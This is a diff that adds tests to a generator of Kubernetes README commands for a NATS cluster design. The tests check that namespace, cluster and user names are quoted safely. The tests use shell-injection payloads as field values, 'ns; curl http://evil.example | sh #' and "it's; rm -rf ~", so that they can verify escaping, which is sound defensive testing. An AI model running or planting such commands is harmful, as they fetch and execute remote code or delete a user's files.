@@ -170,3 +170,41 @@ describe('the local README of a design forced past the lint', () => {
     expect(args[args.indexOf('--user') + 1]).toBe("it's; rm -rf ~");
   });
 });
+
+describe('the monitoring and nats-box sections of a design forced past the lint', () => {
+  const ns = 'ns; curl http://evil.example | sh #';
+  const t: Topology = {
+    ...forced({
+      name: 'x',
+      namespace: ns,
+      clusters: [{ name: 'a|b' }, { name: "c'd" }],
+      gateways: [['a|b', "c'd"]],
+      accounts: [{ name: 'APP', users: ['u'] }],
+    }),
+    monitoring: { exporter: true },
+    natsBox: true,
+  };
+  const readme = renderBundle(t).find((f) => f.path === 'README.md')!.content;
+
+  it('gives kubectl the namespace and the nats CLI each address as one word, also inside sh -c', () => {
+    const lines = readme.split('\n').filter((l) => l.startsWith('kubectl exec'));
+    expect(lines).toHaveLength(3);
+    for (const line of lines) {
+      const args = argumentsOf(line);
+      expect(args.slice(0, 4)).toEqual(['exec', '-n', ns, 'deploy/nats-box']);
+    }
+    const script = argumentsOf(lines[2]).at(-1)!;
+    const inner = execFileSync('sh', ['-c', `nats() { printf '%s\\0' "$@"; }\n${script}`], { encoding: 'utf8' })
+      .split('\0')
+      .slice(0, -1);
+    expect(inner).toContain(`nats://nats-c'd.${ns}.svc.cluster.local:4222`);
+    expect(inner).toContain(`nats://nats-a|b.${ns}.svc.cluster.local:4222`);
+    expect(inner).toContain("pong from c'd");
+  });
+
+  it('gives the port-forward to the exporter the namespace and the pod as single words', () => {
+    const line = readme.split('\n').find((l) => l.startsWith('kubectl port-forward') && l.includes('7777'))!;
+    const args = argumentsOf(line);
+    expect(args).toEqual(['port-forward', '-n', ns, 'pod/nats-a|b-0', '7777:7777']);
+  });
+});
